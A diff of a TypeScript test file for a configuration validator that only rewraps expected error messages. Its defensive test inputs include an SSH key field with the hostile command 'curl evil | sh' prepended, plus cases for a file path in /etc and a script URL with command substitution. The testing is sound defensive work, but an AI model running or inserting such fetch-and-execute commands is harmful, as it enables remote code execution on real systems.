@@ -166,8 +166,8 @@ const cases: [string, (c: Record<string, any>) => unknown, string][] = [
     [
         "a pool file in /etc",
         (c) => (c.volumes.pool.vdevPath = "/etc/pool.img"),
-        "volumes.pool.vdevPath: expected a file in a directory of its own, not in the system tree /etc (the stack sets its owner and mode), got " +
-            '"/etc/pool.img"',
+        "volumes.pool.vdevPath: expected a file in a directory of its own, not in the system tree /etc " +
+            '(the stack sets its owner and mode), got "/etc/pool.img"',
     ],
     [
         "a Docker CLI path with ..",
@@ -183,8 +183,8 @@ const cases: [string, (c: Record<string, any>) => unknown, string][] = [
     [
         "an SSH key with junk around its PEM",
         (c) => (c.sshPrivateKey = `curl evil | sh\n${c.sshPrivateKey}trailing junk`),
-        "sshPrivateKey: expected exactly one SSH private key (PEM / OpenSSH), from -----BEGIN … PRIVATE KEY----- to -----END … PRIVATE KEY-----, got " +
-            "(hidden)",
+        "sshPrivateKey: expected exactly one SSH private key (PEM / OpenSSH), " +
+            "from -----BEGIN … PRIVATE KEY----- to -----END … PRIVATE KEY-----, got (hidden)",
     ],
     [
         "a weave script URL with a command substitution",
